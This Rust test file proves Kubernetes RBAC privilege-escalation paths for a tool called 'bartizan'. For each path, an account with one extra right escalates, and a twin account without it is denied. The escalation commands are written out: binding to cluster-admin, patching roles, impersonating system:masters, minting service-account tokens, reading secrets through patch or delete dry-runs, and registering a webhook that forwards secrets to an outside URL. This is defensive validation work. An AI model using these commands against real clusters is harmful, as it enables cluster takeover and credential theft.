//! Attack paths are proven, not believed: of each family that a control plane can carry out, an account does it with its
//! own token, and a twin that lacks one right fails; what `bartizan paths` says of both is the same.

use std::time::Duration;

use anyhow::{Context as _, ensure};
use libtest_mimic::Trial;
use serde_json::Value;

use crate::harness::{Cluster, Needs, Proxy, Result, User, eventually, run, trial};

pub fn trials() -> Vec<Trial> {
    vec![trial::own(
        "edges/each_is_walked_and_its_twin_is_not",
        Needs::Nodes,
        &[],
        each_is_walked_and_its_twin_is_not,
    )]
}

/// One edge. Its objects live in the namespace `edge-ID`; the accounts are `actor` and `twin` there. `ACCOUNT` in the rules
/// is each of the two in turn.
struct Edge {
    id: &'static str,
    /// What both may: documents of roles and bindings, `ACCOUNT` for the account.
    both: &'static str,
    /// What the actor may besides.
    actor: &'static str,
    /// What is there to be taken.
    prey: &'static str,
    /// The commands, each as the account; the last one is the proof. `TOKEN` is the account's own.
    walk: &'static [&'static str],
    /// What the last command prints when it worked, beside success.
    shows: &'static str,
    /// Where `bartizan paths` says that it leads; empty where no goal stands for it.
    to: &'static str,
}

const STRONG: &str = "
apiVersion: v1
kind: ServiceAccount
metadata: {name: strong, namespace: NS}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: NS-strong}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}
subjects: [{kind: ServiceAccount, name: strong, namespace: NS}]
";

const SECRET: &str = "
apiVersion: v1
kind: Secret
metadata: {name: prey, namespace: NS}
stringData: {word: caught}
";

const EDGES: &[Edge] = &[
    Edge {
        id: "bind",
        both: "cluster: {apiGroups: [rbac.authorization.k8s.io], resources: [clusterrolebindings], verbs: [create]}",
        actor: "cluster: {apiGroups: [rbac.authorization.k8s.io], resources: [clusterroles], resourceNames: [cluster-admin], verbs: [bind]}",
        prey: "",
        walk: &[
            "create clusterrolebinding NS-ACCOUNT --clusterrole=cluster-admin --serviceaccount=NS:ACCOUNT",
        ],
        shows: "created",
        to: "cluster-admin",
    },
    Edge {
        id: "escalate",
        both: "cluster: {apiGroups: [rbac.authorization.k8s.io], resources: [clusterroles], verbs: [get, patch]}",
        actor: "cluster: {apiGroups: [rbac.authorization.k8s.io], resources: [clusterroles], verbs: [escalate]}",
        prey: "",
        walk: &[
            r#"patch clusterrole NS-ACCOUNT-both --type=json -p '[{"op":"add","path":"/rules/-","value":{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}}]'"#,
        ],
        shows: "patched",
        to: "cluster-admin",
    },
    Edge {
        id: "pod-as-account",
        both: "NS: {apiGroups: [''], resources: [pods], verbs: [get]}",
        actor: "NS: {apiGroups: [''], resources: [pods], verbs: [create]}",
        prey: STRONG,
        walk: &[
            r#"run taken-ACCOUNT -n NS --image=registry.example.com/x:1 --overrides='{"spec":{"serviceAccountName":"strong"}}'"#,
        ],
        shows: "created",
        to: "cluster-admin",
    },
    Edge {
        id: "token-request",
        both: "NS: {apiGroups: [''], resources: [serviceaccounts/token], resourceNames: [other], verbs: [create]}",
        actor: "NS: {apiGroups: [''], resources: [serviceaccounts/token], resourceNames: [strong], verbs: [create]}",
        prey: STRONG,
        walk: &["create token strong -n NS"],
        shows: "ey",
        to: "cluster-admin",
    },
    Edge {
        id: "token-secret",
        both: "NS: {apiGroups: [''], resources: [secrets], verbs: [create]}",
        actor: "NS: {apiGroups: [''], resources: [secrets], verbs: [get]}",
        prey: STRONG,
        walk: &[
            r#"printf %s '{"apiVersion":"v1","kind":"Secret","type":"kubernetes.io/service-account-token","metadata":{"name":"lasting-ACCOUNT","annotations":{"kubernetes.io/service-account.name":"strong"}}}' | create -n NS -f -"#,
            "get secret lasting-ACCOUNT -n NS -o jsonpath={.data.token}",
        ],
        shows: "ZX",
        to: "cluster-admin",
    },
    Edge {
        id: "impersonate",
        both: "cluster: {apiGroups: [''], resources: [groups], verbs: [impersonate]}",
        actor: "cluster: {apiGroups: [''], resources: [users], verbs: [impersonate]}",
        prey: "",
        walk: &["get secrets -A --as=anybody --as-group=system:masters -o name"],
        shows: "",
        to: "cluster-admin",
    },
    Edge {
        id: "namespace-object",
        both: "NS: {apiGroups: [''], resources: [namespaces], verbs: [get]}",
        actor: "NS: {apiGroups: [''], resources: [namespaces], verbs: [patch]}",
        prey: "",
        walk: &[
            "label namespace NS pod-security.kubernetes.io/enforce=privileged --overwrite --dry-run=server",
        ],
        shows: "labeled",
        to: "",
    },
    Edge {
        id: "patch-reads",
        both: "NS: {apiGroups: [''], resources: [secrets], verbs: [update]}",
        actor: "NS: {apiGroups: [''], resources: [secrets], resourceNames: [prey], verbs: [patch]}",
        prey: SECRET,
        walk: &["RAW PATCH /api/v1/namespaces/NS/secrets/prey?dryRun=All {}"],
        shows: "Y2F1Z2h0",
        to: "secret:NS/prey",
    },
    Edge {
        id: "deletion-reads",
        both: "NS: {apiGroups: [''], resources: [secrets], verbs: [delete]}",
        actor: "NS: {apiGroups: [''], resources: [secrets], verbs: [deletecollection]}",
        prey: SECRET,
        walk: &["RAW DELETE /api/v1/namespaces/NS/secrets?dryRun=All"],
        shows: "Y2F1Z2h0",
        to: "secret:NS/prey",
    },
    Edge {
        id: "list-by-name",
        both: "NS: {apiGroups: [''], resources: [secrets], resourceNames: [other], verbs: [list]}",
        actor: "NS: {apiGroups: [''], resources: [secrets], resourceNames: [prey], verbs: [list]}",
        prey: SECRET,
        walk: &["RAW GET /api/v1/namespaces/NS/secrets?fieldSelector=metadata.name=prey"],
        shows: "Y2F1Z2h0",
        to: "secret:NS/prey",
    },
    Edge {
        id: "webhook",
        both: "cluster: {apiGroups: [admissionregistration.k8s.io], resources: [mutatingwebhookconfigurations], verbs: [get]}",
        actor: "cluster: {apiGroups: [admissionregistration.k8s.io], resources: [mutatingwebhookconfigurations], verbs: [create]}",
        prey: "",
        walk: &[
            r#"printf %s '{"apiVersion":"admissionregistration.k8s.io/v1","kind":"MutatingWebhookConfiguration","metadata":{"name":"NS-ACCOUNT"},"webhooks":[{"name":"sees.example.com","admissionReviewVersions":["v1"],"sideEffects":"None","clientConfig":{"url":"https://hooks.example.com/all"},"rules":[{"apiGroups":[""],"apiVersions":["v1"],"operations":["CREATE"],"resources":["secrets"]}]}]}' | create --dry-run=server -f -"#,
        ],
        shows: "created",
        to: "",
    },
];

fn each_is_walked_and_its_twin_is_not(cluster: &Cluster) -> Result {
    let proxy = Proxy::start(cluster)?;
    let mut failures = Vec::new();
    for edge in EDGES {
        let outcome = set_up(cluster, edge).and_then(|()| {
            for (account, reaches) in [("actor", true), ("twin", false)] {
                walk(cluster, &proxy, edge, account, reaches)
                    .with_context(|| format!("{} {account}", edge.id))?;
            }
            Ok(())
        });
        failures.extend(outcome.err().map(|error| format!("{}: {error:#}", edge.id)));
    }
    ensure!(failures.is_empty(), "{}", failures.join("\n"));
    Ok(())
}

fn namespace(edge: &Edge) -> String {
    format!("edge-{}", edge.id)
}

/// A rule as `cluster: {...}` or `NS: {...}`, as a role and a binding for the account.
fn right(edge: &Edge, account: &str, part: &str, text: &str) -> String {
    let namespace = namespace(edge);
    let (scope, rule) = text.split_once(": ").unwrap_or(("", text));
    let name = format!("{namespace}-{account}-{part}");
    let (role, binding, place) = if scope == "cluster" {
        ("ClusterRole", "ClusterRoleBinding", String::new())
    } else {
        ("Role", "RoleBinding", format!(", namespace: {namespace}"))
    };
    format!(
        "---
apiVersion: rbac.authorization.k8s.io/v1
kind: {role}
metadata: {{name: {name}{place}}}
rules: [{rule}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: {binding}
metadata: {{name: {name}{place}}}
roleRef: {{apiGroup: rbac.authorization.k8s.io, kind: {role}, name: {name}}}
subjects: [{{kind: ServiceAccount, name: {account}, namespace: {namespace}}}]
"
    )
}

fn set_up(cluster: &Cluster, edge: &Edge) -> Result {
    let namespace = namespace(edge);
    cluster.add_namespace(&namespace)?;
    let mut text = String::new();
    for account in ["actor", "twin"] {
        text += &format!(
            "---\napiVersion: v1\nkind: ServiceAccount\nmetadata: {{name: {account}, namespace: {namespace}}}\n"
        );
        text += &right(edge, account, "both", edge.both);
    }
    text += &right(edge, "actor", "more", edge.actor);
    cluster.apply(&text)?;
    if !edge.prey.is_empty() {
        cluster.apply(&edge.prey.replace("NS", &namespace))?;
    }
    Ok(())
}

fn walk(cluster: &Cluster, proxy: &Proxy, edge: &Edge, account: &str, reaches: bool) -> Result {
    claims(cluster, edge, account, reaches)?;
    let namespace = namespace(edge);
    let token = cluster.admin(&["create", "token", account, "-n", &namespace])?;
    let fill = |text: &str| text.replace("ACCOUNT", account).replace("NS", &namespace);
    let last = edge.walk.len().saturating_sub(1);
    for (at, command) in edge.walk.iter().enumerate() {
        let attempt = || as_account(cluster, proxy, token.trim(), &fill(command));
        if at < last || reaches {
            // A right that has just been given, and a token that a controller writes, take a moment.
            let said = eventually("it to work", Duration::from_secs(20), || {
                let said = attempt()?;
                ensure!(at < last || said.contains(edge.shows), "{said}");
                Ok(Some(said))
            });
            said.with_context(|| fill(command))?;
        } else {
            let said = attempt();
            ensure!(
                said.as_ref()
                    .is_err_and(|error| format!("{error:#}").contains("orbidden")),
                "{} was let through: {said:?}",
                fill(command)
            );
        }
    }
    Ok(())
}

/// What `bartizan paths` says.
fn claims(cluster: &Cluster, edge: &Edge, account: &str, reaches: bool) -> Result {
    if edge.to.is_empty() {
        return Ok(());
    }
    let namespace = namespace(edge);
    let mut command = cluster.bartizan(User::Viewer);
    let from = format!("sa:{namespace}/{account}");
    command.args([
        "paths",
        "--from",
        &from,
        "--to",
        &edge.to.replace("NS", &namespace),
    ]);
    command.args(["-o", "json"]);
    let output = run(command, "")?.success()?;
    let answer: Value = serde_json::from_str(&output)?;
    let paths = answer["paths"].as_array().context("paths")?;
    ensure!(
        paths.is_empty() != reaches,
        "bartizan says of {account}: {answer:#}"
    );
    Ok(())
}

/// Runs a line of kubectl with nothing but this token; `RAW METHOD PATH [BODY]` asks the server as it is written.
fn as_account(cluster: &Cluster, proxy: &Proxy, token: &str, line: &str) -> Result<String> {
    let Some(raw) = line.strip_prefix("RAW ") else {
        let (feed, line) = line
            .split_once(" | ")
            .map_or(("", line), |(feed, line)| (feed, line));
        let pipe = if feed.is_empty() { "" } else { " | " };
        return cluster.paste(&format!("{feed}{pipe}kubectl --token={token} {line}"));
    };
    let mut words = raw.splitn(3, ' ');
    let (method, path) = words.next().zip(words.next()).context("METHOD PATH")?;
    // A login of its own goes before the proxy's.
    let login = ("Authorization", format!("Bearer {token}"));
    let (code, answer) = proxy.send(method, path, &[login], words.next().unwrap_or_default())?;
    ensure!(code == 200, "{code} {answer}");
    Ok(answer.to_string())
}
